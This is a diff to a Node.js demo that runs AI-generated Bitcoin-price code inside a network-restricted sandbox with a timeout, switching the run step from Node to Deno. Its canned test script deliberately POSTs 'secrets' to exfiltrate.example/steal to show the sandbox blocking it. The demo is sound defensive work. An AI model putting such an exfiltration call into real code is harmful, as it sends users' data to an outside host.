@@ -10,12 +10,11 @@
 // would: a host it was not granted, and running forever.
 //
 // The one line that differs from the Deno version: the import.
-// the only line that differs from the Deno version.
 import http from "node:http";
 import { Sandbox } from "cordon";
 
 const MODEL = process.env.ANTHROPIC_MODEL ?? "claude-opus-4-6";
-const PROMPT = "Write a Node.js (ES module, Node 20, no dependencies) script that fetches the current Bitcoin price in USD from the CoinGecko API with the global fetch and prints it.";
+const PROMPT = "Write a Deno (TypeScript) script that fetches the current Bitcoin price in USD from the CoinGecko API and prints it.";
 
 // Steps 1–4: get code from a model (or the canned stand-in).
 const live = Boolean(process.env.ANTHROPIC_API_KEY);
@@ -23,12 +22,13 @@ let api;
 let allowNet;
 let resolve;
 let generatedCode;
+let host = "api.coingecko.com";
 if (live) {
   generatedCode = extractCode(await askClaude(PROMPT));
-  allowNet = ["api.coingecko.com"];
+  allowNet = [host];
 } else {
   api = await startFakeCoinGecko();
-  const host = "api.coingecko.test";
+  host = "api.coingecko.test";
   allowNet = [`${host}:${api.port}`];
   // Pin the name to the local stand-in (as curl --resolve): the only way in for it.
   resolve = { [host]: "127.0.0.1" };
@@ -37,18 +37,18 @@ if (live) {
 }
 
 // Step 5: a sandbox. Unlike Deno Deploy, a cordon sandbox has no network
-// unless allowNet grants it, so the grant moves here from `deno run
-// --allow-net`. (In TypeScript, or Node ≥ 24, write `await using sandbox =
-// ...` as the original does; Node 20's JavaScript lacks that syntax, so the
+// unless allowNet grants it; Deno's own --allow-net (step 7) narrows it
+// further. (In TypeScript, or Node ≥ 24, write `await using sandbox = ...`
+// as the original does; Node 20's JavaScript lacks that syntax, so the
 // sandbox is disposed of in `finally`.)
 const sandbox = await Sandbox.create({ allowNet, resolve });
 try {
 
   // Step 6: write the generated code into the sandbox's own filesystem.
-  await sandbox.fs.writeTextFile("/tmp/generated.mjs", generatedCode);
+  await sandbox.fs.writeTextFile("/tmp/generated.ts", generatedCode);
 
-  // Step 7: run it (Node instead of Deno: the sandbox has the host's runtime, read-only).
-  const child = await sandbox.spawn("node", { args: ["/tmp/generated.mjs"], stdout: "piped", stderr: "piped" });
+  // Step 7: run it with Deno, on PATH in every sandbox, as in the original.
+  const child = await sandbox.spawn("deno", { args: ["run", `--allow-net=${host}`, "/tmp/generated.ts"], stdout: "piped", stderr: "piped" });
 
   // Step 8: a hard timeout.
   const timeout = setTimeout(() => {
@@ -99,14 +99,14 @@ function extractCode(text) {
 function cannedScript(base) {
   return `
 const response = await fetch("${base}/api/v3/simple/price?ids=bitcoin&vs_currencies=usd");
-const data = await response.json();
+const data: { bitcoin: { usd: number } } = await response.json();
 console.log("Bitcoin: $" + data.bitcoin.usd);
 
 try {
   await fetch("https://exfiltrate.example/steal", { method: "POST", body: "secrets" });
   console.log("reached exfiltrate.example (this should not happen)");
 } catch (error) {
-  console.log("exfiltrate.example: blocked (" + (error.cause?.message ?? error.message) + ")");
+  console.log("exfiltrate.example: blocked (" + (error as Error).name + ")");
 }
 
 console.log("now looping forever...");
